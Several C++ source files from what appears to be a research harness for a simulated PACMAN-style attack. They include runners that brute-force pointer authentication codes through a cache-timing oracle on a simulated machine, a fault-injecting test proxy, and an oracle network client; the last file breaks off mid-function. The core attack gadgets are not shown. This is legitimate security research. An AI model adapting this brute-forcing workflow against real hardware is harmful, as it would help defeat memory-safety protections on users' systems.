        cfg, [&](unsigned worker, const Chunk &chunk) {
            Worker &w = prepareWorker(workers, worker, cfg.replica,
                                      cfg.supervision);
            return executeAccuracyChunk(w, cfg, chunk);
        });
    for (const std::unique_ptr<Worker> &w : workers) {
        if (w)
            result.recovery.merge(w->recovery());
    }
    return result;
}

WorkOutcome
replayQuarantine(const BruteForceCampaignConfig &cfg,
                 const QuarantineRecord &record)
{
    PACMAN_ASSERT(record.campaign == "bruteforce",
                  "record is for campaign '%s', not bruteforce",
                  record.campaign.c_str());
    Worker w(cfg.replica, replaySupervision(cfg.supervision));
    const WorkRequest req{record.chunkIndex, record.streamSeed,
                          record.hasRekey
                              ? std::optional<uint64_t>(record.rekeySeed)
                              : std::nullopt};
    return w.run(req, [&](attack::PacOracle &oracle,
                          kernel::Machine &) {
        attack::PacBruteForcer forcer(oracle,
                                      resamplePolicy(cfg.replica));
        forcer.search(uint16_t(record.firstItem),
                      uint16_t(record.lastItem));
    });
}

WorkOutcome
replayQuarantine(const AccuracyCampaignConfig &cfg,
                 const QuarantineRecord &record)
{
    PACMAN_ASSERT(record.campaign == "accuracy",
                  "record is for campaign '%s', not accuracy",
                  record.campaign.c_str());
    Worker w(cfg.replica, replaySupervision(cfg.supervision));
    const WorkRequest req{record.firstItem, record.streamSeed,
                          record.hasRekey
                              ? std::optional<uint64_t>(record.rekeySeed)
                              : std::nullopt};
    TrialResult scratch;
    return w.run(req, [&](attack::PacOracle &oracle,
                          kernel::Machine &machine) {
        runAccuracyTrial(cfg, oracle, machine, scratch);
    });
}

} // namespace pacman::runner
