#include "campaign.hh"

#include <algorithm>
#include <chrono>
#include <cstdlib>
#include <memory>
#include <optional>
#include <vector>

#include "base/logging.hh"
#include "sim/snapshot.hh"

namespace pacman::runner
{

bool
snapshotReplicasDefault()
{
    static const bool disabled =
        std::getenv("PACMAN_DISABLE_SNAPSHOT") != nullptr;
    return !disabled;
}

namespace
{

using Clock = std::chrono::steady_clock;

/** Stream id for per-trial PAC-key rotation (accuracy campaigns):
 *  key draws must come from a stream distinct from the trial's main
 *  stream or the first jitter draws would correlate with the keys. */
constexpr uint64_t KeySeedStream = 0x4B65'7973ull; // "Keys"

/**
 * One worker-owned replica: a private machine stack. Construction
 * provisions it completely — boot (PAC keys drawn from the config's
 * machine seed), guest-program assembly, eviction-set build, target
 * binding, calibration — all under the boot stream, so the
 * post-provisioning state is a pure function of the configuration.
 *
 * beginItem() then prepares one work item: rewind to the
 * post-provisioning checkpoint (or rely on the caller having just
 * constructed a fresh replica in the reference mode), optionally
 * rotate the PAC keys, switch the RNG to the item stream, and attach
 * the fault injector. Every per-item result is a pure function of
 * (config, item seeds) in both modes.
 */
struct Replica
{
    explicit Replica(const ReplicaConfig &cfg)
        : cfg(cfg), machine(cfg.machine), proc(machine),
          oracle(proc, cfg.oracle)
    {
        oracle.setTarget(cfg.target, cfg.modifier);
    }

    /** Checkpoint the current (post-provisioning) state; beginItem()
     *  restores it before every subsequent item. */
    void enableCheckpoint() { checkpoint.emplace(machine, oracle); }

    /**
     * Prepare one work item. @p rekey_seed, when set, rotates the PAC
     * keys (and refreshes the oracle's legit training pointer) before
     * the stream switch, so the key draw and the refresh syscall are
     * identical across provisioning modes and thread counts.
     */
    void beginItem(std::optional<uint64_t> rekey_seed,
                   uint64_t stream_seed)
    {
        // Detach the previous item's injector before touching any
        // machine state; its hook must not observe the rewind.
        injector.reset();
        if (checkpoint)
            checkpoint->restore();
        if (rekey_seed) {
            machine.rekey(*rekey_seed);
            oracle.refreshLegitPointer();
        }
        machine.reseedRng(stream_seed);
        // Faults attach only after provisioning: set construction and
        // calibration run undisturbed, and the injector's own stream
        // keeps the replica a pure function of the item.
        if (cfg.faults.enabled()) {
            injector.emplace(machine, cfg.faults,
                             Random::deriveSeed(stream_seed,
                                                sim::FaultSeedStream));
            injector->attach();
        }
    }

    FaultStats
    faultStats() const
    {
        return injector ? injector->stats() : FaultStats{};
    }

    const ReplicaConfig cfg;
    kernel::Machine machine;
    attack::AttackerProcess proc;
    attack::PacOracle oracle;
    std::optional<sim::ReplicaCheckpoint> checkpoint;
    std::optional<sim::FaultInjector> injector;
};

/**
 * The per-worker replica slot policy: snapshot mode provisions once
 * per worker and reuses the checkpointed replica; the fresh-provision
 * reference mode reconstructs the whole stack for every item.
 */
Replica &
prepareReplica(std::vector<std::unique_ptr<Replica>> &slots,
               unsigned worker, const ReplicaConfig &cfg)
{
    std::unique_ptr<Replica> &slot = slots[worker];
    if (!slot || !cfg.snapshot) {
        slot = std::make_unique<Replica>(cfg);
        if (cfg.snapshot)
            slot->enableCheckpoint();
    }
    return *slot;
}

/** The replica's per-candidate sampling policy. */
attack::ResamplePolicy
resamplePolicy(const ReplicaConfig &cfg)
{
    attack::ResamplePolicy policy;
    policy.samples = cfg.samples;
    policy.maxSamples = cfg.maxSamples;
    policy.candidateRetries = cfg.candidateRetries;
    return policy;
}

std::string
statFingerprint(const SampleStat &s)
{
    if (s.count() == 0)
        return "n=0";
    return strprintf("n=%llu mean=%.17g median=%.17g p90=%.17g "
                     "p99=%.17g min=%.17g max=%.17g",
                     (unsigned long long)s.count(), s.mean(), s.median(),
                     s.percentile(90), s.percentile(99), s.min(),
                     s.max());
}

std::string
robustnessFingerprint(const attack::BruteForceStats &b,
                      const attack::OracleStats &o, const FaultStats &f)
{
    return strprintf(
        "samples=%llu esc=%llu cand_retry=%llu busy_retry=%llu "
        "disturbed=%llu query_retry=%llu calib=%llu repair=%llu "
        "faults=%llu",
        (unsigned long long)b.samplesTaken,
        (unsigned long long)b.escalations,
        (unsigned long long)b.candidateRetries,
        (unsigned long long)o.busyRetries,
        (unsigned long long)o.disturbedQueries,
        (unsigned long long)o.retriedQueries,
        (unsigned long long)o.calibrations,
        (unsigned long long)o.repairs, (unsigned long long)f.total());
}

} // anonymous namespace

std::string
BruteForceCampaignResult::fingerprint() const
{
    return strprintf(
        "found=%s guesses=%llu queries=%llu cycles=%llu "
        "chunks_merged=%llu decisions[%s] robustness[%s]",
        stats.found ? strprintf("0x%04x", *stats.found).c_str() : "none",
        (unsigned long long)stats.guessesTested,
        (unsigned long long)stats.oracleQueries,
        (unsigned long long)stats.cyclesSimulated,
        (unsigned long long)chunksMerged,
        statFingerprint(decisionMisses).c_str(),
        robustnessFingerprint(stats, oracleStats, faultStats).c_str());
}

BruteForceCampaignResult
runBruteForceCampaign(const BruteForceCampaignConfig &cfg)
{
    PACMAN_ASSERT(cfg.first <= cfg.last,
                  "brute-force campaign range is empty");
    const uint64_t num_items = uint64_t(cfg.last) - cfg.first + 1;
    const uint64_t num_chunks = chunkCount(num_items, cfg.pool.chunkSize);

    struct ChunkResult
    {
        attack::BruteForceStats stats;
        SampleStat decisions;
        attack::OracleStats oracle;
        FaultStats faults;
    };
    std::vector<ChunkResult> results(num_chunks);
    std::vector<std::unique_ptr<Replica>> replicas(
        effectiveJobs(cfg.pool.jobs));

    const auto t0 = Clock::now();
    const PoolOutcome outcome = runChunked(
        cfg.pool, num_items,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            // Same provision seed on every replica (same PAC keys —
            // they are sweeping for the *same* PAC), per-chunk RNG
            // stream from the item's index.
            Replica &replica =
                prepareReplica(replicas, worker, cfg.replica);
            replica.beginItem(std::nullopt,
                              Random::deriveSeed(cfg.seed, chunk.index));
            attack::PacBruteForcer forcer(replica.oracle,
                                          resamplePolicy(cfg.replica));
            ChunkResult &r = results[chunk.index];
            r.stats = forcer.search(uint16_t(cfg.first + chunk.firstItem),
                                    uint16_t(cfg.first + chunk.lastItem),
                                    &r.decisions);
            r.oracle = replica.oracle.stats();
            r.faults = replica.faultStats();
            if (r.stats.found)
                return uint64_t(*r.stats.found) - cfg.first;
            return std::nullopt;
        });
    const auto t1 = Clock::now();

    // Merge in chunk order, up to and including the chunk holding the
    // lowest hit — exactly the candidates a serial sweep would have
    // tested before stopping.
    BruteForceCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.chunksRun = outcome.chunksRun;
    result.chunksSkipped = outcome.chunksSkipped;
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (uint64_t c = 0; c < num_chunks; ++c) {
        if (outcome.firstHit && c * cfg.pool.chunkSize > *outcome.firstHit)
            break;
        result.stats.merge(results[c].stats);
        result.decisionMisses.merge(results[c].decisions);
        result.oracleStats.merge(results[c].oracle);
        result.faultStats.merge(results[c].faults);
        ++result.chunksMerged;
    }
    return result;
}

std::string
AccuracyCampaignResult::fingerprint() const
{
    return strprintf(
        "tp=%llu fp=%llu fn=%llu guesses=%llu queries=%llu "
        "cycles=%llu per_trial[%s] robustness[%s]",
        (unsigned long long)truePositives,
        (unsigned long long)falsePositives,
        (unsigned long long)falseNegatives,
        (unsigned long long)totals.guessesTested,
        (unsigned long long)totals.oracleQueries,
        (unsigned long long)totals.cyclesSimulated,
        statFingerprint(guessesPerTrial).c_str(),
        robustnessFingerprint(totals, oracleStats, faultStats).c_str());
}

AccuracyCampaignResult
runAccuracyCampaign(const AccuracyCampaignConfig &cfg)
{
    enum class Verdict { TruePositive, FalsePositive, FalseNegative };
    struct TrialResult
    {
        Verdict verdict = Verdict::FalseNegative;
        attack::BruteForceStats stats;
        attack::OracleStats oracle;
        FaultStats faults;
    };
    std::vector<TrialResult> results(cfg.trials);
    std::vector<std::unique_ptr<Replica>> replicas(
        effectiveJobs(cfg.pool.jobs));

    const auto t0 = Clock::now();
    runChunked(
        cfg.pool, cfg.trials,
        [&](unsigned worker, const Chunk &chunk)
            -> std::optional<uint64_t> {
            for (uint64_t trial = chunk.firstItem;
                 trial <= chunk.lastItem; ++trial) {
                // Fresh keys per trial — rekey from a dedicated key
                // stream (the checkpointed equivalent of a per-trial
                // reboot) — then the per-trial main stream.
                const uint64_t stream =
                    Random::deriveSeed(cfg.seed, trial);
                Replica &replica =
                    prepareReplica(replicas, worker, cfg.replica);
                replica.beginItem(
                    Random::deriveSeed(stream, KeySeedStream), stream);
                const auto sel =
                    cfg.replica.oracle.kind == attack::GadgetKind::Data
                        ? crypto::PacKeySelect::DA
                        : crypto::PacKeySelect::IA;
                const uint16_t truth = replica.machine.kernel().truePac(
                    cfg.replica.target, cfg.replica.modifier, sel);

                uint16_t first = 0x0000, last = 0xFFFF;
                if (cfg.window != 0) {
                    // Window placed from ground truth for scaling
                    // only; each candidate is decided by the oracle.
                    const uint32_t start = truth >= cfg.window / 2
                                               ? truth - cfg.window / 2
                                               : 0;
                    first = uint16_t(start);
                    last = uint16_t(std::min<uint32_t>(
                        start + cfg.window - 1, 0xFFFF));
                }

                attack::PacBruteForcer forcer(replica.oracle,
                                              resamplePolicy(cfg.replica));
                TrialResult &r = results[trial];
                r.stats = forcer.search(first, last);
                r.oracle = replica.oracle.stats();
                r.faults = replica.faultStats();
                if (!r.stats.found)
                    r.verdict = Verdict::FalseNegative;
                else if (*r.stats.found == truth)
                    r.verdict = Verdict::TruePositive;
                else
                    r.verdict = Verdict::FalsePositive;
            }
            return std::nullopt;
        });
    const auto t1 = Clock::now();

    AccuracyCampaignResult result;
    result.jobs = effectiveJobs(cfg.pool.jobs);
    result.wallSeconds =
        std::chrono::duration<double>(t1 - t0).count();
    for (const TrialResult &r : results) {
        switch (r.verdict) {
          case Verdict::TruePositive: ++result.truePositives; break;
          case Verdict::FalsePositive: ++result.falsePositives; break;
          case Verdict::FalseNegative: ++result.falseNegatives; break;
        }
        // Sum the counters only: `found` differs per trial (fresh
        // keys), so a merged "found" would be meaningless here.
        result.totals.guessesTested += r.stats.guessesTested;
        result.totals.oracleQueries += r.stats.oracleQueries;
        result.totals.cyclesSimulated += r.stats.cyclesSimulated;
        result.totals.samplesTaken += r.stats.samplesTaken;
        result.totals.escalations += r.stats.escalations;
        result.totals.candidateRetries += r.stats.candidateRetries;
        result.oracleStats.merge(r.oracle);
        result.faultStats.merge(r.faults);
        result.guessesPerTrial.add(double(r.stats.guessesTested));
    }
    return result;
}

} // namespace pacman::runner
