/**
 * @file
 * Seed-deterministic fault-injecting TCP relay for the PAC1 wire
 * protocol — the network counterpart of base/faults.hh. A ChaosProxy
 * listens on an ephemeral loopback port and relays every accepted
 * connection to one upstream pacman-oracled endpoint:
 *
 *  - client→server bytes pass through untouched (requests must stay
 *    intact — a corrupted request would change what work the server
 *    performs, which is not the failure mode under test);
 *  - server→client traffic is re-framed (parseFrameHeader + exact
 *    reads), and each response frame rolls one fault decision.
 *
 * Injected faults: payload byte corruption under the original header
 * CRC (the client must detect the mismatch), frame truncation
 * followed by connection teardown (mid-frame EOF), whole-frame delay
 * past the client's read deadline (WireTimeout), immediate mid-chunk
 * disconnect (torn connection), and frame duplication (a stale id the
 * pipelining buffer must absorb). `blackhole` wedges the proxy
 * entirely: connections are accepted and requests forwarded upstream,
 * but no response byte is ever relayed — how the host-deadline path
 * is proven to detect a hung-but-accepting endpoint.
 *
 * Determinism: each fault decision is drawn from an RNG seeded by
 * Random::deriveSeed(seed, (connection ordinal << 20) | frame
 * ordinal), both counted per proxy. Thread scheduling cannot perturb
 * the schedule for a given connection's frame sequence, so a failing
 * chaos scenario replays under the same seed. Fault decisions are
 * appended to `logPath` (one line each) for post-mortem; CI uploads
 * these logs as artifacts.
 *
 * Campaign-level guarantee under all of this (bench/chaos_recovery):
 * chunks the proxy mangles are redispatched by the EndpointPool and
 * the merged fingerprint stays bit-identical to a clean local run.
 */

#ifndef PACMAN_RUNNER_CHAOS_PROXY_HH
#define PACMAN_RUNNER_CHAOS_PROXY_HH

#include <cstdint>
#include <memory>
#include <string>

namespace pacman::runner
{

/** Fault plan for one ChaosProxy. Rates are per response frame and
 *  evaluated in the order listed; at most one fault per frame. */
struct ChaosProxyConfig
{
    /** Upstream pacman-oracled endpoint (parseEndpoint() form). */
    std::string upstream;

    /** Base seed for the per-(connection, frame) fault streams. */
    uint64_t seed = 1;

    /** P(drop the connection instead of forwarding the frame). */
    double dropRate = 0;

    /** P(corrupt one payload byte, keep the original header CRC). */
    double corruptRate = 0;

    /** P(forward a truncated frame, then drop the connection). */
    double truncateRate = 0;

    /** P(hold the frame for delaySeconds before forwarding). */
    double delayRate = 0;
    double delaySeconds = 0;

    /** P(forward the frame twice). */
    double duplicateRate = 0;

    /** Accept and forward requests but never relay any response —
     *  a wedged endpoint the client can only escape by deadline. */
    bool blackhole = false;

    /** Append one line per fault decision here (empty = no log). */
    std::string logPath;
};

/**
 * The relay. Listening starts on construction; every accepted
 * connection gets its own upstream connection and relay threads.
 * Destruction closes the listener and tears down all relays.
 * Thread-safe counters, suitable for concurrent campaign traffic.
 */
class ChaosProxy
{
  public:
    explicit ChaosProxy(const ChaosProxyConfig &cfg);
    ~ChaosProxy();

    ChaosProxy(const ChaosProxy &) = delete;
    ChaosProxy &operator=(const ChaosProxy &) = delete;

    /** The client-facing endpoint, "tcp:127.0.0.1:<port>". */
    const std::string &endpoint() const;

    /** Cumulative counters (thread-safe). */
    struct Counters
    {
        uint64_t connections = 0;
        uint64_t framesForwarded = 0;
        uint64_t drops = 0;
        uint64_t corruptions = 0;
        uint64_t truncations = 0;
        uint64_t delays = 0;
        uint64_t duplicates = 0;

        uint64_t
        faults() const
        {
            return drops + corruptions + truncations + delays +
                   duplicates;
        }
    };
    Counters counters() const;

    const ChaosProxyConfig &config() const { return cfg_; }

  private:
    struct Impl;

    const ChaosProxyConfig cfg_;
    std::unique_ptr<Impl> impl_;
};

} // namespace pacman::runner

#endif // PACMAN_RUNNER_CHAOS_PROXY_HH
