#include "client.hh"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstring>
#include <sstream>
#include <thread>

#include "base/logging.hh"
#include "runner/dispatch.hh"

namespace pacman::runner
{

namespace
{

using Clock = std::chrono::steady_clock;

int
connectUnix(const std::string &path)
{
    sockaddr_un addr{};
    if (path.size() >= sizeof(addr.sun_path))
        throw WireError("socket path too long: " + path);
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0)
        throw WireError(strprintf("socket: %s", std::strerror(errno)));
    addr.sun_family = AF_UNIX;
    std::strncpy(addr.sun_path, path.c_str(),
                 sizeof(addr.sun_path) - 1);
    if (::connect(fd, reinterpret_cast<sockaddr *>(&addr),
                  sizeof(addr)) != 0) {
        const int err = errno;
        ::close(fd);
        throw WireError(strprintf("connect %s: %s", path.c_str(),
                                  std::strerror(err)));
    }
    return fd;
}

/** connect(2) with an optional poll-based timeout (the socket is
 *  switched to non-blocking for the handshake, then restored).
 *  Returns 0 on success, the failing errno otherwise; -ETIMEDOUT is
 *  reported as ETIMEDOUT with @p timed_out set. */
int
connectWithTimeout(int fd, const sockaddr *addr, socklen_t len,
                   double timeout_seconds, bool &timed_out)
{
    timed_out = false;
    if (timeout_seconds <= 0)
        return ::connect(fd, addr, len) == 0 ? 0 : errno;

    const int flags = ::fcntl(fd, F_GETFL, 0);
    ::fcntl(fd, F_SETFL, flags | O_NONBLOCK);
    int err = 0;
    if (::connect(fd, addr, len) != 0) {
        if (errno != EINPROGRESS) {
            err = errno;
        } else {
            pollfd pfd{fd, POLLOUT, 0};
            const int rc =
                ::poll(&pfd, 1, int(timeout_seconds * 1000));
            if (rc == 0) {
                err = ETIMEDOUT;
                timed_out = true;
            } else if (rc < 0) {
                err = errno;
            } else {
                socklen_t elen = sizeof(err);
                ::getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &elen);
            }
        }
    }
    ::fcntl(fd, F_SETFL, flags);
    return err;
}

int
connectTcp(const std::string &host, const std::string &port,
           double timeout_seconds)
{
    // AF_UNSPEC: resolve and try every family getaddrinfo offers, so
    // "tcp:[::1]:port" and dual-stack hostnames both work.
    addrinfo hints{};
    hints.ai_family = AF_UNSPEC;
    hints.ai_socktype = SOCK_STREAM;
    addrinfo *res = nullptr;
    const int rc = ::getaddrinfo(host.c_str(), port.c_str(), &hints,
                                 &res);
    if (rc != 0)
        throw WireError(strprintf("resolve %s:%s: %s", host.c_str(),
                                  port.c_str(), ::gai_strerror(rc)));
    int fd = -1;
    int err = 0;
    bool timed_out = false;
    for (addrinfo *ai = res; ai != nullptr; ai = ai->ai_next) {
        fd = ::socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
        if (fd < 0)
            continue;
        err = connectWithTimeout(fd, ai->ai_addr, ai->ai_addrlen,
                                 timeout_seconds, timed_out);
        if (err == 0)
            break;
        ::close(fd);
        fd = -1;
    }
    ::freeaddrinfo(res);
    if (fd < 0) {
        const std::string what =
            strprintf("connect %s:%s: %s", host.c_str(), port.c_str(),
                      std::strerror(err));
        if (timed_out)
            throw WireTimeout(what);
        throw WireError(what);
    }
    return fd;
}

} // anonymous namespace

int
connectEndpoint(const Endpoint &ep, double timeout_seconds)
{
    if (ep.kind == Endpoint::Kind::Unix)
        return connectUnix(ep.path);
    return connectTcp(ep.host, ep.port, timeout_seconds);
}

std::optional<Endpoint>
parseEndpoint(const std::string &spec)
{
    Endpoint ep;
    if (spec.rfind("unix:", 0) == 0) {
        ep.kind = Endpoint::Kind::Unix;
        ep.path = spec.substr(5);
        if (ep.path.empty())
            return std::nullopt;
        return ep;
    }
    if (spec.rfind("tcp:", 0) == 0) {
        ep.kind = Endpoint::Kind::Tcp;
        const std::string rest = spec.substr(4);
        if (!rest.empty() && rest.front() == '[') {
            // Bracketed IPv6 literal: tcp:[<addr>]:<port>.
            const size_t close = rest.find(']');
            if (close == std::string::npos ||
                close + 1 >= rest.size() || rest[close + 1] != ':')
                return std::nullopt;
            ep.host = rest.substr(1, close - 1);
            ep.port = rest.substr(close + 2);
        } else {
            const size_t colon = rest.find_last_of(':');
            if (colon == std::string::npos)
                return std::nullopt;
            ep.host = rest.substr(0, colon);
            ep.port = rest.substr(colon + 1);
        }
        if (ep.host.empty() || ep.port.empty())
            return std::nullopt;
        return ep;
    }
    if (spec.empty())
        return std::nullopt;
    ep.kind = Endpoint::Kind::Unix;
    ep.path = spec;
    return ep;
}

OracleClient::OracleClient(const std::string &endpoint,
                           const ClientOptions &opts)
    : opts_(opts)
{
    connect(endpoint);
}

OracleClient::~OracleClient()
{
    close();
}

void
OracleClient::connect(const std::string &endpoint)
{
    PACMAN_ASSERT(fd_ < 0, "client already connected");
    const std::optional<Endpoint> ep = parseEndpoint(endpoint);
    if (!ep)
        throw WireError("malformed endpoint: " + endpoint);
    endpoint_ = endpoint;
    fd_ = connectEndpoint(*ep, opts_.connectTimeoutSeconds);
}

void
OracleClient::adopt(int fd)
{
    PACMAN_ASSERT(fd_ < 0, "client already connected");
    PACMAN_ASSERT(fd >= 0, "cannot adopt a closed fd");
    fd_ = fd;
    endpoint_.clear();
}

void
OracleClient::reconnect()
{
    PACMAN_ASSERT(!endpoint_.empty(),
                  "reconnect needs a prior connect()");
    const std::string endpoint = endpoint_;
    close();
    connect(endpoint);
}

void
OracleClient::close()
{
    if (fd_ >= 0) {
        ::close(fd_);
        fd_ = -1;
    }
    pending_.clear();
}

uint64_t
OracleClient::sendRequest(const std::string &verb,
                          const std::string &args,
                          const std::string &body)
{
    PACMAN_ASSERT(fd_ >= 0, "client not connected");
    WireMessage m;
    m.id = nextId_++;
    m.verb = verb;
    m.args = args;
    m.body = body;
    try {
        writeFrame(fd_, packMessage(m));
    } catch (const WireError &) {
        close();
        throw;
    }
    return m.id;
}

WireMessage
OracleClient::readResponse(uint64_t id)
{
    for (;;) {
        auto it = pending_.find(id);
        if (it != pending_.end()) {
            WireMessage m = std::move(it->second);
            pending_.erase(it);
            return m;
        }
        try {
            std::optional<std::string> payload =
                readFrame(fd_, opts_.readTimeoutSeconds);
            if (!payload)
                throw WireError("server closed the connection");
            std::optional<WireMessage> m = unpackMessage(*payload);
            if (!m)
                throw WireError("malformed response frame");
            if (m->id == id)
                return *m;
            pending_[m->id] = std::move(*m);
        } catch (const WireError &) {
            // Timed out, torn, or desynchronised: the stream cannot
            // be trusted past this point, so retire it (with any
            // buffered responses) before the caller sees the error.
            close();
            throw;
        }
    }
}

WireMessage
OracleClient::call(const std::string &verb, const std::string &args,
                   const std::string &body)
{
    return readResponse(sendRequest(verb, args, body));
}

WireMessage
OracleClient::callChecked(const std::string &verb,
                          const std::string &args,
                          const std::string &body)
{
    // BUSY is backpressure, not failure: back off and retry while the
    // busy deadline allows. Exhaustion is a typed error so failover
    // layers can treat a permanently saturated endpoint as down.
    const Clock::time_point start = Clock::now();
    auto backoff = std::chrono::microseconds(500);
    for (;;) {
        WireMessage resp = call(verb, args, body);
        if (resp.verb == "OK")
            return resp;
        if (resp.verb == "BUSY") {
            if (opts_.busyDeadlineSeconds > 0) {
                const double elapsed =
                    std::chrono::duration<double>(Clock::now() - start)
                        .count();
                if (elapsed >= opts_.busyDeadlineSeconds) {
                    close();
                    throw BusyExhausted(strprintf(
                        "server still BUSY on %s after %.3fs",
                        verb.c_str(), elapsed));
                }
            }
            std::this_thread::sleep_for(backoff);
            backoff = std::min(backoff * 2,
                               std::chrono::microseconds(100'000));
            continue;
        }
        throw WireError(strprintf("server error on %s: %s",
                                  verb.c_str(), resp.args.c_str()));
    }
}

void
OracleClient::hello(const std::string &tenant, uint64_t secret)
{
    callChecked("HELLO",
                strprintf("%s %016llx", tenant.c_str(),
                          (unsigned long long)secret),
                {});
}

OracleClient::QueryResult
OracleClient::query(uint16_t candidate, uint64_t stream_seed,
                    const ReplicaConfig &replica,
                    const SupervisionConfig &sup)
{
    const WireMessage resp = callChecked(
        "QUERY",
        strprintf("%04x %016llx", candidate,
                  (unsigned long long)stream_seed),
        encodeReplicaWire(replica, sup));
    std::istringstream in(resp.args);
    int hot = 0;
    QueryResult r;
    if (!(in >> hot >> r.misses))
        throw WireError("malformed QUERY response: " + resp.args);
    r.hot = hot != 0;
    return r;
}

uint16_t
OracleClient::truth(const ReplicaConfig &replica,
                    const SupervisionConfig &sup)
{
    const WireMessage resp =
        callChecked("TRUTH", {}, encodeReplicaWire(replica, sup));
    unsigned long long pac = 0;
    if (sscanf(resp.args.c_str(), "%llx", &pac) != 1 || pac > 0xFFFF)
        throw WireError("malformed TRUTH response: " + resp.args);
    return uint16_t(pac);
}

std::string
OracleClient::chunkPayload(const std::string &request_body)
{
    return callChecked("CHUNK", {}, request_body).body;
}

std::string
OracleClient::metricsJson()
{
    return callChecked("METRICS", {}, {}).body;
}

bool
OracleClient::ping()
{
    return callChecked("PING", {}, {}).args != "draining";
}

void
OracleClient::drain()
{
    callChecked("DRAIN", {}, {});
}

// --- Remote campaign runners (single endpoint) ---------------------

BruteForceCampaignResult
runBruteForceCampaignRemote(const BruteForceCampaignConfig &cfg,
                            const std::string &endpoint)
{
    DispatchConfig dcfg;
    dcfg.endpoints = {endpoint};
    return runBruteForceCampaignRemote(cfg, dcfg);
}

AccuracyCampaignResult
runAccuracyCampaignRemote(const AccuracyCampaignConfig &cfg,
                          const std::string &endpoint)
{
    DispatchConfig dcfg;
    dcfg.endpoints = {endpoint};
    return runAccuracyCampaignRemote(cfg, dcfg);
}

} // namespace pacman::runner
