#include "client.hh"

#include <arpa/inet.h>
#include <netdb.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <csignal>
#include <cstring>
#include <memory>
#include <sstream>
#include <thread>
#include <vector>

#include "base/logging.hh"

namespace pacman::runner
{

namespace
{

int
connectUnix(const std::string &path)
{
    sockaddr_un addr{};
    if (path.size() >= sizeof(addr.sun_path))
        throw WireError("socket path too long: " + path);
    const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (fd < 0)
        throw WireError(strprintf("socket: %s", std::strerror(errno)));
    addr.sun_family = AF_UNIX;
    std::strncpy(addr.sun_path, path.c_str(),
                 sizeof(addr.sun_path) - 1);
    if (::connect(fd, reinterpret_cast<sockaddr *>(&addr),
                  sizeof(addr)) != 0) {
        const int err = errno;
        ::close(fd);
        throw WireError(strprintf("connect %s: %s", path.c_str(),
                                  std::strerror(err)));
    }
    return fd;
}

int
connectTcp(const std::string &host, const std::string &port)
{
    addrinfo hints{};
    hints.ai_family = AF_INET;
    hints.ai_socktype = SOCK_STREAM;
    addrinfo *res = nullptr;
    const int rc = ::getaddrinfo(host.c_str(), port.c_str(), &hints,
                                 &res);
    if (rc != 0)
        throw WireError(strprintf("resolve %s:%s: %s", host.c_str(),
                                  port.c_str(), ::gai_strerror(rc)));
    int fd = -1;
    int err = 0;
    for (addrinfo *ai = res; ai != nullptr; ai = ai->ai_next) {
        fd = ::socket(ai->ai_family, ai->ai_socktype, ai->ai_protocol);
        if (fd < 0)
            continue;
        if (::connect(fd, ai->ai_addr, ai->ai_addrlen) == 0)
            break;
        err = errno;
        ::close(fd);
        fd = -1;
    }
    ::freeaddrinfo(res);
    if (fd < 0)
        throw WireError(strprintf("connect %s:%s: %s", host.c_str(),
                                  port.c_str(), std::strerror(err)));
    return fd;
}

} // anonymous namespace

OracleClient::OracleClient(const std::string &endpoint)
{
    connect(endpoint);
}

OracleClient::~OracleClient()
{
    close();
}

void
OracleClient::connect(const std::string &endpoint)
{
    PACMAN_ASSERT(fd_ < 0, "client already connected");
    // A server that drops the connection must surface as WireError
    // (EPIPE), not SIGPIPE.
    ::signal(SIGPIPE, SIG_IGN);
    if (endpoint.rfind("unix:", 0) == 0) {
        fd_ = connectUnix(endpoint.substr(5));
    } else if (endpoint.rfind("tcp:", 0) == 0) {
        const std::string rest = endpoint.substr(4);
        const size_t colon = rest.find_last_of(':');
        if (colon == std::string::npos)
            throw WireError("tcp endpoint needs host:port: " +
                            endpoint);
        fd_ = connectTcp(rest.substr(0, colon),
                         rest.substr(colon + 1));
    } else {
        fd_ = connectUnix(endpoint);
    }
}

void
OracleClient::close()
{
    if (fd_ >= 0) {
        ::close(fd_);
        fd_ = -1;
    }
    pending_.clear();
}

uint64_t
OracleClient::sendRequest(const std::string &verb,
                          const std::string &args,
                          const std::string &body)
{
    PACMAN_ASSERT(fd_ >= 0, "client not connected");
    WireMessage m;
    m.id = nextId_++;
    m.verb = verb;
    m.args = args;
    m.body = body;
    writeFrame(fd_, packMessage(m));
    return m.id;
}

WireMessage
OracleClient::readResponse(uint64_t id)
{
    for (;;) {
        auto it = pending_.find(id);
        if (it != pending_.end()) {
            WireMessage m = std::move(it->second);
            pending_.erase(it);
            return m;
        }
        std::optional<std::string> payload = readFrame(fd_);
        if (!payload)
            throw WireError("server closed the connection");
        std::optional<WireMessage> m = unpackMessage(*payload);
        if (!m)
            throw WireError("malformed response frame");
        if (m->id == id)
            return *m;
        pending_[m->id] = std::move(*m);
    }
}

WireMessage
OracleClient::call(const std::string &verb, const std::string &args,
                   const std::string &body)
{
    return readResponse(sendRequest(verb, args, body));
}

WireMessage
OracleClient::callChecked(const std::string &verb,
                          const std::string &args,
                          const std::string &body)
{
    // BUSY is backpressure, not failure: back off and retry until
    // the queue has room again.
    auto backoff = std::chrono::microseconds(500);
    for (;;) {
        WireMessage resp = call(verb, args, body);
        if (resp.verb == "OK")
            return resp;
        if (resp.verb == "BUSY") {
            std::this_thread::sleep_for(backoff);
            backoff = std::min(backoff * 2,
                               std::chrono::microseconds(100'000));
            continue;
        }
        throw WireError(strprintf("server error on %s: %s",
                                  verb.c_str(), resp.args.c_str()));
    }
}

void
OracleClient::hello(const std::string &tenant, uint64_t secret)
{
    callChecked("HELLO",
                strprintf("%s %016llx", tenant.c_str(),
                          (unsigned long long)secret),
                {});
}

OracleClient::QueryResult
OracleClient::query(uint16_t candidate, uint64_t stream_seed,
                    const ReplicaConfig &replica,
                    const SupervisionConfig &sup)
{
